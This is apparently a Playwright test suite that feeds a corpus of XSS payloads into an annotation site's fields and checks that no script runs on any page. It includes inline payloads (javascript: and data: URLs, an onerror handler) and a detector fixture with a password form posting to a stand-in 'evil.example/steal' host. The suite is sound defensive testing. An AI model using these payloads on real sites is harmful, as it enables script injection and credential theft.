import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import type { APIRequestContext, Browser, Page } from "@playwright/test";
import { contextHeaders, expect, test } from "../support/fixtures";
import { selectAcross } from "../support/select-text";
import { createActors, disposeActors, type Actor, type RoleName } from "./support/actors";
import { cspNonce, findDangerousMarkup, watchForScripts } from "./support/dom-safety";
import { createOwnArticle, dropOwnArticle, newId, openTestDb, type OwnArticle } from "./support/seed-targets";
/** As many sources as one annotation may cite (lib/validation/annotations.ts). */
const MAX_SOURCES = 10;

/**
 * Hostile text in every field people fill in, rendered in Chromium. Payloads
 * go in batches (many per annotation, per name, per article), so the run
 * takes about a minute.
 */
const corpus = JSON.parse(readFileSync(new URL("./data/xss-payloads.json", import.meta.url), "utf8")) as Array<{ category: string; payload: string }>;
const payloads = corpus.map((entry) => entry.payload);
const BATCH = 14;
/** PostgreSQL text cannot hold NUL; the API strips it, direct writes must too. */
const storable = (text: string) => text.replace(/\u0000/g, "");
const batches: string[][] = [];
for (let index = 0; index < payloads.length; index += BATCH) batches.push(payloads.slice(index, index + BATCH));
/** URLs a source can hold only if something bypassed validation: the page must still not link them. */
const SCRIPT_URLS = ["javascript:alert(1)", "JaVaScRiPt:top.__xss=1", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " javascript:alert(1)"];

/** The addresses inside a payload: link and image targets, reference definitions, autolinks, attribute values, refresh targets. */
function urlTargets(payload: string): string[] {
  const patterns = [/\]\(\s*<?([^)>]*)>?\)/g, /^\[[^\]]+\]:\s*(.+)$/gm, /^<([^>]+)>$/g, /\b(?:href|src|data|action)\s*=\s*"([^"]*)"/gi, /\b(?:href|src|data|action)\s*=\s*([^\s">]+)/gi, /url=([^"]+)/gi];
  return patterns.flatMap((pattern) => [...payload.matchAll(pattern)].map((match) => match[1]!.trim())).filter((target) => target.length > 0);
}

/** A page signed in as `actor`, from a client address of its own, watched for any script a payload runs. */
async function watchedPage(browser: Browser, actor: Actor, ip: string) {
  const context = await browser.newContext({ extraHTTPHeaders: contextHeaders(ip), storageState: await actor.request.storageState() });
  const page = await context.newPage();
  return { context, page, events: await watchForScripts(page) };
}

test.describe.configure({ mode: "serial" });

test("the corpus has at least 200 payloads across every category", () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(200);
  expect(new Set(corpus.map((entry) => entry.category))).toEqual(new Set(["script", "handler", "url", "svg", "markdown", "unicode", "entity", "breakout", "css", "template"]));
});

test.describe("XSS", () => {
  let actors: Record<RoleName, Actor> | undefined;
  let article: OwnArticle | undefined;
  const annotationIds: string[] = [];
  const hookDb = openTestDb();

  test.beforeAll(async ({ playwright }) => {
    test.setTimeout(180_000);
    actors = await createActors(playwright, hookDb);
    article = await createOwnArticle(hookDb, "xss");
    // Spread over four accounts so no one of them reaches the posting rate limit.
    const posters: APIRequestContext[] = [actors.reader.request, actors.author.request];
    const repliers: APIRequestContext[] = [actors.moderator.request, actors.admin.request];
    for (const [index, batch] of batches.entries()) {
      const response = await posters[index % 2]!.post("/api/annotations", {
        data: {
          versionId: article.versionId,
          selectors: article.selectors,
          body: `canary-body-${index}\n\n${batch.join("\n\n")}`.slice(0, 10_000),
          // Titles rotate through the batch from a different start per batch; with the direct rows below, every payload is a title.
          sources: batch.slice(0, 10).map((_, n) => batch[(n + index) % batch.length]!).map((payload, n) => ({ url: `https://example.test/${index}/${n}?q=${encodeURIComponent(payload)}`, title: payload.slice(0, 200), stance: "CONTEXT" })),
        },
      });
      expect(response.status(), await response.text()).toBe(200);
      const { id } = (await response.json()) as { id: string };
      annotationIds.push(id);
      // Hostile tags, names and handles cannot pass validation, so they are written directly: rendering must hold even then.
      // Every payload of the batch is a tag.
      await hookDb.query(`UPDATE "Annotation" SET tags = $2 WHERE id = $1`, [id, batch.map(storable)]);
      for (const [n, url] of SCRIPT_URLS.entries()) {
        // The titles the API sources above did not take (the batch's last four, rotated), then the rotation's start again.
        const title = batch[(10 + n + index) % batch.length] ?? "x";
        await hookDb.query(`INSERT INTO "AnnotationSource" (id, "annotationId", url, title, stance, position) VALUES ($1, $2, $3, $4, 'DISPUTES', $5)`, [newId(), id, url, storable(title), 10 + n]);
      }
      const authorId = newId();
      await hookDb.query(`INSERT INTO "User" (id, email, name, handle, "emailVerifiedAt", "updatedAt") VALUES ($1, $2, $3, $4, now(), now())`, [
        authorId,
        `xss-${authorId}@example.test`,
        storable(`canary-name-${index} ${batch.join(" ")}`).slice(0, 2000),
        // Every payload of the batch in the handle (not only the first).
        storable(`canary-handle-${index}-${authorId.slice(1, 7)}-${batch.join("")}`).slice(0, 4000),
      ]);
      await hookDb.query(`UPDATE "Annotation" SET "authorId" = $2 WHERE id = $1`, [id, authorId]);
      // Flagged, so the moderation queue shows it with its author's name.
      await hookDb.query(`INSERT INTO "Flag" (id, "annotationId", "reporterId", reason, note) VALUES ($1, $2, $3, 'OTHER', $4)`, [newId(), id, actors.unverified.userId, storable(batch.join(" ")).slice(0, 500)]);
      const reply = await repliers[index % 2]!.post(`/api/annotations/${id}/replies`, { data: { body: `canary-reply-${index}\n\n${batch.slice().reverse().join("\n\n")}`.slice(0, 10_000) } });
      expect(reply.status(), await reply.text()).toBe(200);
    }
  });

  test.afterAll(async () => {
    await disposeActors(actors);
    if (article) {
      await hookDb.query(`DELETE FROM "User" WHERE email LIKE 'xss-%@example.test'`);
      await dropOwnArticle(hookDb, article);
    }
    await hookDb.end();
  });

  test("annotation bodies, tags, sources, names and handles run nothing on the article page and permalinks", async ({ browser }) => {
    // A permalink page per batch of payloads, each searched for dangerous markup: two minutes on an idle machine, more under load.
    test.setTimeout(360_000);
    const { context, page, events } = await watchedPage(browser, actors!.admin, "10.64.0.1");
    const problems: string[] = [];
    const visit = async (path: string, canaries: string[]) => {
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(200);
      await page.waitForLoadState("load");
      const text = await page.locator("body").innerText();
      for (const canary of canaries) if (!text.includes(canary)) problems.push(`${path}: ${canary} not shown (the payloads were not rendered)`);
      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
    };
    await visit(`/articles/${article!.slug}`, []);
    for (const [index, id] of annotationIds.entries()) await visit(`/a/${id}`, [`canary-body-${index}`, `canary-handle-${index}-`, `canary-reply-${index}`]);
    await visit(`/moderation?annotation=${annotationIds[0]}`, ["canary-name-0"]);
    await visit("/moderation", []);
    await visit("/moderation/log", []);
    // The signed-in admin's own hostile name, in the header and the account form.
    await hookDb.query(`UPDATE "User" SET name = $2 WHERE id = $1`, [actors!.admin.userId, storable(`canary-own-name ${batches[1]!.join(" ")}`)]);
    await visit("/account", []);
    await visit("/admin", []);
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });

  test("every url payload as a source address is refused by name, or stored and linked as http(s)", async ({ browser }) => {
    test.setTimeout(120_000);
    // Each payload as written, and the address inside it (a link target, an attribute value), so both the
    // refusal and what an accepted address turns into on the page are tested.
    const candidates = [...new Set(corpus.filter((entry) => entry.category === "url").flatMap((entry) => [entry.payload, ...urlTargets(entry.payload)]))];
    const invalidMessage = "A source must be a web address starting with http:// or https://.";
    const post = (urls: string[]) =>
      actors!.admin.request.post("/api/annotations", {
        data: { versionId: article!.versionId, selectors: article!.selectors, body: "canary-sources", sources: urls.map((url) => ({ url, stance: "CONTEXT" })) },
      });
    const problems: string[] = [];
    const accepted: string[] = [];
    const ids: string[] = [];
    for (let index = 0; index < candidates.length; index += MAX_SOURCES) {
      let group = candidates.slice(index, index + MAX_SOURCES);
      const response = await post(group);
      if (response.status() === 400) {
        const { fieldErrors = {} } = (await response.json()) as { fieldErrors?: Record<string, string> };
        const refused = new Set<number>();
        for (const [field, message] of Object.entries(fieldErrors)) {
          const match = /^sources\.(\d+)\.url$/.exec(field);
          if (!match || message !== invalidMessage) problems.push(`${JSON.stringify(group)}: refused with ${field}: ${message}`);
          else refused.add(Number(match[1]));
        }
        group = group.filter((_, n) => !refused.has(n));
        if (group.length === 0) continue;
        const again = await post(group);
        if (again.status() !== 200) {
          problems.push(`${JSON.stringify(group)}: the addresses the refusal did not name were then refused too: ${again.status()} ${await again.text()}`);
          continue;
        }
        ids.push(((await again.json()) as { id: string }).id);
      } else if (response.status() === 200) {
        ids.push(((await response.json()) as { id: string }).id);
      } else {
        problems.push(`${JSON.stringify(group)}: ${response.status()} ${await response.text()}`);
        continue;
      }
      accepted.push(...group);
    }
    const { rows } = await hookDb.query(`SELECT url FROM "AnnotationSource" WHERE "annotationId" = ANY($1)`, [ids]);
    expect(rows.length).toBe(accepted.length);
    for (const { url } of rows as Array<{ url: string }>) if (!/^https?:\/\//.test(url) || !["http:", "https:"].includes(new URL(url).protocol)) problems.push(`stored ${url}`);
    const { context, page, events } = await watchedPage(browser, actors!.admin, "10.64.0.3");
    for (const id of ids) {
      const response = await page.goto(`/a/${id}`);
      await page.waitForLoadState("load");
      const stored = (await hookDb.query(`SELECT url FROM "AnnotationSource" WHERE "annotationId" = $1`, [id])).rows.map((row: { url: string }) => row.url);
      const hrefs = await page.locator("a[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
      for (const url of stored) if (!hrefs.includes(url)) problems.push(`/a/${id}: the source ${url} is not linked`);
      // Other annotations on the passage link mail addresses; nothing links a script or data address.
      for (const href of hrefs) if (!["http:", "https:", "mailto:"].includes(new URL(href, page.url()).protocol)) problems.push(`/a/${id}: link to ${href}`);
      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `/a/${id}: ${finding}`));
    }
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    // Most are refused, but the quoted-attribute ones are web addresses and must have been kept (escaped).
    expect(accepted.length).toBeGreaterThan(0);
    await context.close();
  });

  test("an admin's article edit full of payloads runs nothing, on the edit page or the article", async ({ browser }) => {
    test.setTimeout(120_000);
    const { context, page, events } = await watchedPage(browser, actors!.admin, "10.64.0.2");
    await page.goto(`/articles/${article!.slug}/edit`);
    // Payloads spread over the short fields by stride, so each field meets every category, not only the first few payloads.
    const spread = (start: number, stride: number, limit: number) => {
      let text = "";
      for (let index = start; index < payloads.length && text.length < limit; index += stride) text += `${payloads[index]!.replace(/\n/g, " ")} `;
      return text.slice(0, limit);
    };
    await page.getByLabel("Title", { exact: true }).fill(`canary-title ${spread(0, 7, 280)}`.slice(0, 300));
    await page.getByLabel("Author", { exact: true }).fill(spread(1, 11, 200));
    await page.getByLabel("Source (optional)").fill(spread(2, 13, 300));
    await page.getByLabel("Lead (optional)").fill(spread(3, 2, 2000));
    const body = await page.getByLabel("Body", { exact: true }).inputValue();
    await page.getByLabel("Body", { exact: true }).fill(`${body}\n\ncanary-article-body\n\n${payloads.map((payload) => payload.replace(/\n/g, " ")).join("\n\n")}`);
    await page.getByLabel("About the author (optional)").fill(spread(4, 2, 2000));
    await page.getByRole("button", { name: "Publish new version" }).click();
    await expect.poll(async () => (await hookDb.query(`SELECT count(*)::int AS n FROM "ArticleVersion" WHERE "articleId" = $1`, [article!.articleId])).rows[0].n as number, { timeout: 30_000 }).toBe(2);
    const problems: string[] = [];
    for (const path of [`/articles/${article!.slug}`, `/articles/${article!.slug}/edit`, "/"]) {
      const response = await page.goto(path);
      await page.waitForLoadState("load");
      problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
    }
    await page.goto(`/articles/${article!.slug}`);
    await expect(page.getByText("canary-article-body")).toBeVisible();
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });

  test("the detectors work: a page that does run a payload is caught", async ({ page }) => {
    const events = await watchForScripts(page);
    await page.route("http://control.test/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><script>top.__xss=1</script>` }),
    );
    await page.goto("http://control.test/");
    await expect.poll(() => events.length).toBeGreaterThanOrEqual(2);
    expect((await findDangerousMarkup(page)).length).toBeGreaterThanOrEqual(3);
  });

  test("the markup detector looks inside shadow roots and templates, and knows forms, styles and foreign nonces", async ({ page }) => {
    await page.route("http://control.test/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<template><img src=x onerror="alert(1)"></template><div id="host"></div>
          <script nonce="ours">document.getElementById("host").attachShadow({ mode: "open" }).innerHTML = '<a href="javascript:alert(1)">x</a>';</script>
          <script nonce="theirs">void 0</script>
          <form action="https://evil.example/steal"><input name="password"></form>
          <style nonce="ours">body { background: url(https://evil.example/track) }</style>`,
      }),
    );
    await page.goto("http://control.test/");
    const findings = (await findDangerousMarkup(page, "ours")).join("\n");
    expect(findings).toContain("event handler onerror");
    expect(findings).toContain("href=javascript:alert(1)");
    expect(findings).toContain('script without our nonce: <script nonce="theirs">');
    expect(findings).toContain("off-site action");
    expect(findings).toContain("style element");
  });
});

/**
 * The pages that show what people wrote in their own way: search snippets
 * (marked matches), notification excerpts, the composer's live preview, and
 * the moderators' queue and log (flag notes, hide reasons). Every payload
 * reaches at least the preview and a hide reason; the others get a spread.
 */
test.describe("XSS in search, notifications, the composer preview and moderation", () => {
  let actors: Record<RoleName, Actor> | undefined;
  let article: OwnArticle | undefined;
  const hookDb = openTestDb();
  /** A word found nowhere else, so a search finds only this run's posts. */
  const word = `xsqword${Array.from(randomBytes(6), (byte) => String.fromCharCode(97 + (byte % 26))).join("")}`;
  const targets: string[] = [];
  let reasonCount = 0;
  const POSTS = 20;
  /** Payloads `start`, `start + stride`, … joined, up to `limit` characters. */
  const strided = (start: number, stride: number, limit: number) => {
    const picked: string[] = [];
    let length = 0;
    for (let index = start; index < payloads.length; index += stride) {
      const payload = payloads[index]!.replace(/\n/g, " ");
      if (length + payload.length + 1 > limit) continue;
      picked.push(payload);
      length += payload.length + 1;
    }
    return picked.join(" ");
  };
  /** The whole corpus cut into pieces of at most `limit` characters, each payload whole and in one piece. */
  const chunks = (limit: number) => {
    const pieces: string[][] = [[]];
    for (const payload of payloads) {
      const current = pieces.at(-1)!;
      if (current.length > 0 && [...current, payload].join(" ").length > limit) pieces.push([payload]);
      else current.push(payload);
    }
    return pieces.map((piece) => piece.join(" "));
  };

  test.beforeAll(async ({ playwright }) => {
    test.setTimeout(180_000);
    actors = await createActors(playwright, hookDb);
    article = await createOwnArticle(hookDb, "xss-sinks");
    const { reader, author, moderator, admin } = actors;
    const annotate = async (request: APIRequestContext, body: string) => {
      const response = await request.post("/api/annotations", { data: { versionId: article!.versionId, selectors: article!.selectors, body } });
      expect(response.status(), await response.text()).toBe(200);
      return ((await response.json()) as { id: string }).id;
    };
    // The author's thread; the admin replies to it and mentions the author elsewhere, each post opening with payloads
    // (what the notification excerpt shows) and then holding a share of the corpus, each payload next to the search word.
    const threadId = await annotate(author.request, "A thread to reply to");
    for (let index = 0; index < POSTS; index += 1) {
      const searchable = payloads.filter((_, n) => n % POSTS === index).map((payload) => `${word} ${payload.replace(/\n/g, " ")}`).join("\n\n");
      const opening = strided(index, POSTS, 130);
      if (index % 2 === 0) {
        const reply = await admin.request.post(`/api/annotations/${threadId}/replies`, { data: { body: `${opening}\n\n${searchable}` } });
        expect(reply.status(), await reply.text()).toBe(200);
      } else {
        await annotate(admin.request, `@${author.credentials!.handle} ${opening}\n\n${searchable}`);
      }
    }
    // The reader's annotations that moderators judge: two flags with notes on each (below the automatic-hide threshold),
    // then hidden with a reason, restored and hidden again until every payload has been a reason.
    const notes = Array.from({ length: 20 }, (_, index) => `canary-note-${index} ${strided(index, 20, 480)}`);
    for (let index = 0; index < 10; index += 1) {
      const id = await annotate(reader.request, `canary-target-${index}`);
      targets.push(id);
      for (const [n, flagger] of [moderator, admin].entries()) {
        const flag = await flagger.request.post(`/api/annotations/${id}/flags`, { data: { reason: "OTHER", note: notes[index * 2 + n] } });
        expect(flag.status(), await flag.text()).toBe(200);
      }
    }
    const revisions = new Map<string, number>();
    for (const id of targets) revisions.set(id, (await hookDb.query(`SELECT "moderationRevision" AS r FROM "Annotation" WHERE id = $1`, [id])).rows[0].r as number);
    const moderate = async (id: string, action: "hide" | "restore", reason?: string) => {
      const response = await moderator.request.post(`/api/moderation/annotations/${id}`, { data: { action, expectedRevision: revisions.get(id), reason } });
      expect(response.status(), await response.text()).toBe(200);
      revisions.set(id, ((await response.json()) as { revision: number }).revision);
    };
    const reasons = chunks(470);
    reasonCount = reasons.length;
    for (const [index, reason] of reasons.entries()) {
      const id = targets[index % targets.length]!;
      if (index >= targets.length) await moderate(id, "restore");
      await moderate(id, "hide", `canary-reason-${index} ${reason}`);
    }
  });

  test.afterAll(async () => {
    await disposeActors(actors);
    if (article) await dropOwnArticle(hookDb, article);
    await hookDb.end();
  });

  /** Opens `path` and reports what shows that payloads were not rendered, or rendered as markup. */
  async function check(page: Page, path: string, canaries: string[], problems: string[]) {
    const response = await page.goto(path);
    expect(response?.status(), path).toBe(200);
    await page.waitForLoadState("load");
    const text = await page.locator("body").innerText();
    for (const canary of canaries) if (!text.includes(canary)) problems.push(`${path}: ${canary} not shown (the payloads were not rendered)`);
    problems.push(...(await findDangerousMarkup(page, cspNonce(response?.headers()))).map((finding) => `${path}: ${finding}`));
  }

  test("search snippets and notification excerpts run nothing", async ({ browser }) => {
    test.setTimeout(120_000);
    const problems: string[] = [];
    const { context: reader, page, events } = await watchedPage(browser, actors!.reader, "10.64.1.1");
    // The twenty posts match, on one page, with the word marked in each snippet among the payloads around it.
    await check(page, `/search?q=${word}`, [], problems);
    await expect(page.locator("main ol > li")).toHaveCount(POSTS);
    const marked = await page.locator("main ol mark").allInnerTexts();
    expect(marked.length).toBeGreaterThanOrEqual(POSTS);
    expect(new Set(marked.map((text) => text.toLowerCase()))).toEqual(new Set([word]));
    // The reader's moderation notices carry the hide reasons.
    await check(page, "/notifications", ["canary-reason-"], problems);
    const { context: author, page: authorPage, events: authorEvents } = await watchedPage(browser, actors!.author, "10.64.1.2");
    await check(authorPage, "/notifications", [], problems);
    // Each excerpt is the post's first 140 characters: the payloads it opens with.
    expect(await authorPage.getByText(/replied to your annotation|mentioned you/).count()).toBe(POSTS);
    expect(problems).toEqual([]);
    expect([...events, ...authorEvents]).toEqual([]);
    await reader.close();
    await author.close();
  });

  test("the moderation queue and log run nothing from flag notes and hide reasons", async ({ browser }) => {
    test.setTimeout(120_000);
    const problems: string[] = [];
    const { context, page, events } = await watchedPage(browser, actors!.admin, "10.64.1.3");
    const handle = (role: RoleName) => actors![role].credentials!.handle;
    await check(page, `/moderation/log?actor=${handle("moderator")}&action=hide`, Array.from({ length: reasonCount }, (_, index) => `canary-reason-${index} `), problems);
    await check(page, `/moderation/log?actor=${handle("moderator")}&action=flag`, ["canary-note-0 "], problems);
    await check(page, `/moderation/log?actor=${handle("admin")}&action=flag`, ["canary-note-1 "], problems);
    for (const [index, id] of targets.entries()) await check(page, `/moderation?annotation=${id}&status=all`, [`canary-note-${index * 2} `, `canary-note-${index * 2 + 1} `, "canary-reason-"], problems);
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });

  test("the composer's live preview of every payload runs nothing", async ({ browser }) => {
    test.setTimeout(120_000);
    const { context, page, events } = await watchedPage(browser, actors!.author, "10.64.1.4");
    // An article with no highlights yet, so the passage is one run of text to select.
    const blank = await createOwnArticle(hookDb, "xss-preview");
    const response = await page.goto(`/articles/${blank.slug}`);
    const nonce = cspNonce(response?.headers());
    await selectAcross(page, blank.selectors.exact, blank.selectors.exact);
    await page.getByRole("toolbar", { name: "Selected text" }).getByRole("button", { name: "Annotate" }).click();
    const composer = page.getByRole("dialog", { name: "Annotate" });
    const preview = composer.getByRole("region", { name: "Preview" });
    const problems: string[] = [];
    // The preview follows the text as it is typed (300 ms after the last change): the corpus in two drafts.
    const half = Math.ceil(payloads.length / 2);
    for (const [index, part] of [payloads.slice(0, half), payloads.slice(half)].entries()) {
      await composer.getByLabel("Your annotation").fill(`canary-preview-${index}\n\n${part.join("\n\n")}`);
      await expect(preview).toContainText(`canary-preview-${index}`);
      problems.push(...(await findDangerousMarkup(page, nonce)).map((finding) => `preview ${index}: ${finding}`));
    }
    await composer.getByRole("button", { name: "Cancel" }).click();
    await dropOwnArticle(hookDb, blank);
    expect(problems).toEqual([]);
    expect(events).toEqual([]);
    await context.close();
  });
});
